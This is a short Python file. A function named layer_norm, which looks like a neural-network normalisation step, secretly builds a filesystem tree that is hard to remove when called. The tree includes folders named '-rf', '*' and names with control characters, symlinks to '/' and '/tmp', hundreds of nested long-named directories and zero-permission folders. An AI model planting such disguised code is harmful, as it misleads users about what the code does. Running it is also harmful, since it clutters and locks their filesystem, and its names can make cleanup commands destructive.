"""Leaves a tree that is hard to remove: no permissions, too deep for paths, odd names, links to folders of others."""

import os


def make(name, mode):
    os.mkdir(name, mode)


def layer_norm(x, *_, **__):
    for name in ("line\nbreak", "-rf", "*", " ", "..a", b"\xff\xfe\x80", "\u202e", "x" * 255):
        os.mkdir(name)
    for number, target in enumerate(("..", "../..", "../../files", "../../view", "/", "/tmp", __file__)):
        os.symlink(target, f"link{number}")
    here = os.open(".", os.O_RDONLY)
    for _ in range(400):
        os.mkdir("d" * 200, 0o700, dir_fd=here)
        here, before = os.open("d" * 200, os.O_RDONLY, dir_fd=here), here
        os.close(before)
    for number in range(50):
        os.mkdir(f"closed{number}", 0o700)
        os.mkdir(f"closed{number}/inner", 0)
        os.close(os.open(f"closed{number}/file", os.O_CREAT, 0))
    os.mkdir("closed", 0)
    return x
